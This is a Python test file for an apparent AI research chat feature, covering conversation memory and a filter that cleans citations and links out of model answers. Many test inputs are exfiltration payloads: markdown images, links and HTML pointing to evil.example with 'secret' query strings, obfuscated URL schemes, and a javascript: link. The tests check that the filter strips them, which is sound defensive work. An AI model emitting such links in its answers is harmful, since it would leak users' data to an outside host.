"""A conversation that the host keeps, and what an answer refers to: both were in its prompts."""

from __future__ import annotations

import re
from typing import Any

import genai_feature_research
import pytest
from genai_feature_research.memory import MemoryAdditions, memory_of
from genai_feature_research.prompts import NOTHING_LEFT
from genai_feature_research.search import Cited, cited
from hypothesis import given, strategies as st

from genai_host.api import Image, Message, Text, VendorPart
from genai_host_testing.internal.research_engine import Scene, entries, result, scene

__all__ = ["scene"]


def opened(scene: Scene, **options: Any) -> Any:
    history = options.pop("history", ())
    settings = {**scene.settings, **options}
    return scene.host.open(
        "research", "fake", models=scene.roles, settings=settings, history=history
    )


def test_what_was_found_is_found_again_in_a_later_turn(scene: Scene) -> None:
    conversation = opened(scene)
    conversation.say("Where do rivers run to?")
    scene.query = "another query"
    conversation.say("Something else")
    scene.engine.queries.clear()
    conversation.say("Where do rivers run to?")
    assert scene.engine.queries == []
    memory = memory_of(conversation.history)
    assert len(memory.entries) == 6
    assert memory.entry_vectors.missing() == []
    assert len(memory.facts) == 2
    assert memory.fact_vectors.missing() == []


def test_similar_earlier_messages_are_in_the_prompt(scene: Scene) -> None:
    conversation = opened(scene, answer_with_search=False)
    for text in ("Do rivers run uphill?", *(f"Filler {n}" for n in range(8)), "Do rivers freeze?"):
        conversation.say(text)
    assert "- Do rivers run uphill?" in scene.prompts()[-1]


def test_a_turn_that_is_taken_back_is_forgotten(scene: Scene) -> None:
    conversation = opened(scene)
    conversation.say("Where do rivers run to?")
    conversation.undo()
    assert memory_of(conversation.history).facts == ()
    conversation.say("Where do rivers run to?")
    assert len(scene.engine.queries) == 2


def test_it_grows_by_as_much_with_each_turn(scene: Scene) -> None:
    conversation = opened(scene)
    scene.engine.results = lambda query: [result(f"Found by {len(scene.engine.queries)}.")]
    sizes = []
    for number in range(12):
        scene.query = f"query {number:02}"
        conversation.say(f"Question {number:02}")
        part = next(p for p in conversation.history[-1].content if isinstance(p, VendorPart))
        sizes.append(len(str(part.data)))
    assert max(sizes[2:]) - min(sizes[2:]) < 40
    assert sum(len(texts) for texts in scene.words.embedded) == 12 * 4


def test_vectors_of_another_embedder_are_made_anew_once(scene: Scene) -> None:
    conversation = opened(scene)
    conversation.say("Where do rivers run to?")
    history = conversation.history
    other = scene.host.open(
        "research", "fake", models={"embed": "words-16"}, settings=scene.settings, history=history
    )
    assert len(other.say("And lakes?").data["warnings"]) == 2
    memory = memory_of(other.history)
    assert memory.entry_vectors.size == memory.fact_vectors.size == 16
    assert memory.entry_vectors.missing() == memory.fact_vectors.missing() == []
    assert other.say("And seas?").data["warnings"] == []


def test_a_history_of_another_feature_is_remembered(scene: Scene) -> None:
    history = [Message("user", "Do rivers run uphill?"), Message("assistant", "No.")]
    conversation = opened(scene, history=history)
    assert conversation.say("Do rivers run uphill?").data["warnings"] == []
    assert memory_of(conversation.history).entry_vectors.missing() == []


def test_a_message_without_a_text_leaves_vectors_where_they_belong(scene: Scene) -> None:
    conversation = opened(scene, answer_with_search=False)
    conversation.say("Do rivers run uphill?")
    conversation.say(Image(b"\x89PNG", "image/png"))
    conversation.say("Do rivers freeze?")
    memory = memory_of(conversation.history)
    assert memory.entry_vectors.missing() == [2]
    assert memory.entries[4] == "Do rivers freeze?"
    assert memory.entry_vectors.row(4) == entries("Do rivers freeze?")[0]["ada_search"]


EMPTY: dict[str, Any] = {
    "entries_from": 0, "entry_vectors": "", "entry_size": 0, "facts_from": 0, "facts": [],
    "fact_vectors": "", "fact_size": 0,
}  # fmt: skip
BROKEN: list[Any] = [
    None, {}, {"entries_from": -1}, {**EMPTY, "entry_vectors": "AAAA", "entry_size": 64},
    {**EMPTY, "facts": [["a", "b"]]},
]  # fmt: skip


@pytest.mark.parametrize("data", BROKEN)
def test_unreadable_memory_part_is_ignored(scene: Scene, data: Any) -> None:
    message = Message("assistant", [Text("No."), VendorPart("research", data)])
    assert MemoryAdditions.in_message(message) is None
    conversation = opened(scene, history=[Message("user", "Hm?"), message])
    assert conversation.say("Go on").summary == "The answer."


def test_a_model_is_not_sent_what_is_remembered(scene: Scene) -> None:
    conversation = opened(scene)
    conversation.say("One")
    conversation.say("Two")
    for prompt in scene.model.prompts:
        assert all(isinstance(part, Text) for each in prompt.messages for part in each.content)


def test_an_answer_in_a_form_that_was_asked_for(scene: Scene) -> None:
    scene.says = '{"to": "the sea", "at": [7]}'
    schema = {"type": "object", "properties": {"to": {"type": "string"}}, "required": ["to"]}
    for passes in (False, True):
        answer = opened(scene, style_pass=passes).say("Where to?", output_type=schema)
        assert answer.data == {"to": "the sea", "at": [7]}


PROMPT = "[1] Rivers — https://rivers.example/a\n[2] Lakes — https://lakes.example/b?c=d"


@pytest.mark.parametrize(("answer", "text", "numbers"), [
    ("To the sea [1].", "To the sea [1].", (1,)),
    ("To the sea[2] and back [1].", "To the sea[2] and back [1].", (1, 2)),
    ("To the sea [3].", "To the sea.", ()),
    ("To the sea [1, 3].", "To the sea [1].", (1,)),
    ("To the sea [0][2].", "To the sea[2].", (2,)),
    ("`a[3]` and ```\nb[7]\n```", "`a[3]` and ```\nb[7]\n```", ()),
    ("the first is items[0] [2]", "the first is items[0] [2]", (2,)),
    ("with $x[3] = 1$, or $$x[4]$$", "with $x[3] = 1$, or $$x[4]$$", ()),
    (r"with $a_i[3][4] + \alpha[5] = 1$ [3]", r"with $a_i[3][4] + \alpha[5] = 1$", ()),
    ("between $5 [1] and $6 [3]", "between $5 [1] and $6", (1,)),
    ("It costs $5 [9] in US$ [1].", "It costs $5 in US$ [1].", (1,)),
    ("Prices: $5 [1], A$ [7].", "Prices: $5 [1], A$.", (1,)),
    ("It costs $5 in America[9] and A$ [2].", "It costs $5 in America and A$ [2].", (2,)),
    ("See $![x](/log?d=secret) y$ [1].", "See $x y$ [1].", (1,)),
    ("$![x](//evil.example/?d=secret)$", "$x$", ()),
    ("$[text](/\\evil.example/x)$", "$text$", ()),
    ("$![x](https:&#47;&#47;evil.example/q)$", "$x$", ()),
    ("$![x](https&colon;//evil.example/q)$", "$x$", ()),
    ("`a` $![x](&#104;ttps://evil.example)$", "`a` $x$", ()),
    ("$<img src=//evil.example/a>$ b [2]", "$<img src=$ b [2]", (2,)),
    ("See https://rivers.example/a.", "See https://rivers.example/a.", ()),
    ("See https://rivers.example/other!", "See !", ()),
    ("See [a page](https://lakes.example/b?c=d).", "See [a page](https://lakes.example/b?c=d).",
     ()),
    ("See [a page](https://evil.example/?q=secret).", "See a page.", ()),
    ("![x](https://evil.example/?q=secret)", "x", ()),
    ('[x](https://evil.example "a title") y', "x y", ()),
    ("[x](javascript:alert(1))", "x)", ()), ("<https://evil.example>", "", ()),
    ("`https://evil.example`", "``", ()), ("HTTPS://EVIL.EXAMPLE", "", ()),
    ("www.evil.example/?q=secret", "", ()), ("https:evil.example/x", "", ()),
    ("![x][a]\n\n[a]: //evil.example/?q=secret", "![x][a]\n\n", ()),
    ("![x][a]\n> [a]:\n> &sol;/evil.example 'title'", "![x][a]\n", ()),
    ("<img src='//evil.example/?q=secret'>", "<img src=''>", ()),
    ("[a]: https://rivers.example/a", "[a]: https://rivers.example/a", ()),
    ('[a]:\r\n<&sol;/evil.example/a b>\r\n[b]: https\\://evil.example "a\\\nb', "\r\n\nb", ()),
    ("![a]\n\n[a]: data:image/gif;a (b)\nc", "![a]\n\n\nc", ()),
    ("[x][ A\tb ]\n\n[a b]: /etc", "[x][ A\tb ]\n\n", ()),
    ("[1]: the sea/ocean", "[1]: the sea/ocean", (1,)),
    ("[Ann]: yes/no, it depends.", "[Ann]: yes/no, it depends.", ()),
    ("- [x]: 3/4 of users agree", "- [x]: 3/4 of users agree", ()),
    ("[Ann]: AT&T", "[Ann]: AT&T", ()),
    ("[Ann]: /a (b) c", "[Ann]: /a (b) c", ()),
    ("open http:80 and https:443.", "open http:80 and https:443.", ()),
    ("open http:80/x", "open ", ()),
    ("See //foo.bar", "See //foo.bar", ()),
    ("[![x](//a.example)](//b.example)", "[x]()", ()),
    ("either//or, `x //self.y`", "either//or, `x //self.y`", ()),
    ("[2024] was a year [see 1]", " was a year [see 1]", ()),
])  # fmt: skip
def test_what_is_left_of_an_answer(answer: str, text: str, numbers: tuple[int, ...]) -> None:
    citations = cited(answer, PROMPT, 2)
    assert (citations.text, citations.numbers) == (text, numbers)
    assert bool(citations.left_out) == (answer != text)


@pytest.mark.parametrize(("answer", "text"), [
    ("[Ann]: /etc", "\\[Ann]: /etc"),
    ("- [x]: /etc/hosts 'a'\n> [y]: C:/temp", "- \\[x]: /etc/hosts 'a'\n> \\[y]: C:/temp"),
    ("[a]: data:image/gif;a (b)\nc", "\\[a]: data:image/gif;a (b)\nc"),
    ("[a]: /x\n[a]: /y", "\\[a]: /x\n\\[a]: /y"),
])  # fmt: skip
def test_a_line_that_only_resembles_a_definition_is_escaped(answer: str, text: str) -> None:
    """Otherwise, Markdown would not show it."""
    assert cited(answer, PROMPT, 2) == Cited(text)


@given(st.text(alphabet="[]()12345, .!`<>ahtps:/\n", max_size=200))
def test_no_number_and_no_address_is_left_that_was_not_there(answer: str) -> None:
    text = cited(answer, "nothing", 2).text
    plain = re.sub(r"```.*?(?:```|\Z)|`[^`\n]+`", "", text, flags=re.DOTALL)
    found = re.findall(r"(?!(?<=\w)\[0\])\[(\d{1,4})\](?!\(|\w)", plain)
    assert all(int(each) in (1, 2) for each in found)


def test_where_an_answer_refers_to_nothing_all_findings_are_its_sources(scene: Scene) -> None:
    conversation = scene.host.open("research", "fake", models=scene.roles, settings=scene.settings)
    answer = conversation.say("Where do rivers run to?")
    assert [each["number"] for each in answer.data["sources"]] == [1]


def test_an_answer_that_has_nothing_left_says_so(scene: Scene) -> None:
    scene.says = " [7] "
    assert scene.ask()["answer"] == NOTHING_LEFT


def test_an_answer_refers_to_what_the_model_was_shown(scene: Scene) -> None:
    row = result("Rivers run to the sea.", "https://rivers.example", "Rivers")
    scene.engine.results = lambda query: [row]
    scene.says = "To the sea [1], and up [4]; see https://evil.example/?q=secret"
    conversation = scene.host.open("research", "fake", models=scene.roles, settings=scene.settings)
    answer = conversation.say("Where do rivers run to?")
    assert answer.summary == "To the sea [1], and up; see"
    source = {"number": 1, "title": "Rivers", "link": "https://rivers.example"}
    assert answer.data["sources"] == [source]
    assert [reaction["type"] for reaction in answer.reactions] == ["sources", "warnings"]
    assert answer.reactions[0]["sources"] == [source]
    warned = [*genai_feature_research.warnings(answer.reactions[1], 30)]
    assert " ".join(warned).startswith("! removed from the answer")
    assert len(warned) > 1


@pytest.mark.parametrize("text", ["[x](" * 2000, "[x]: " * 20_000, "[x]:" + "/a" * 20_000 + "<"])
def test_many_links_that_do_not_end_take_no_time(text: str) -> None:
    assert cited(text, "", 0).text == text
